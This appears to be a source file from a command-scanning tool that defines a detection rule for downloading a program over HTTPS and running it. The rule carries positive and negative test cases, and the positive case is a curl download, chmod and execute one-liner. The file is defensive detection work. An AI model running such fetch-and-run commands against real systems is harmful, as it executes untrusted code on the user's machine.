import { defineRule } from './rule.js';
import { invocationUrls } from './match.js';
import { dropRuns } from './download-then-run.js';

export const rule = defineRule({
  id: 'download_then_run_tls',
  category: 'download_execute',
  severity: 'high',
  technique: 'T1105',
  title: 'Downloads a program over HTTPS into the working directory and runs it',
  check(ctx) {
    return dropRuns(ctx)
      .filter((d) => !d.risky)
      .map((d) => ({ span: { start: d.fetch.span.start, end: d.run.span.end }, explanation: `downloads ${invocationUrls(d.fetch)[0] ?? 'a file'} as ${d.file} and runs it` }));
  },
  cases: {
    positive: [['bash', 'curl -LO https://example.com/tool && chmod +x tool && ./tool --version']],
    negative: [['bash', 'curl -LO https://example.com/tool.tar.gz && tar xzf tool.tar.gz']],
  },
});
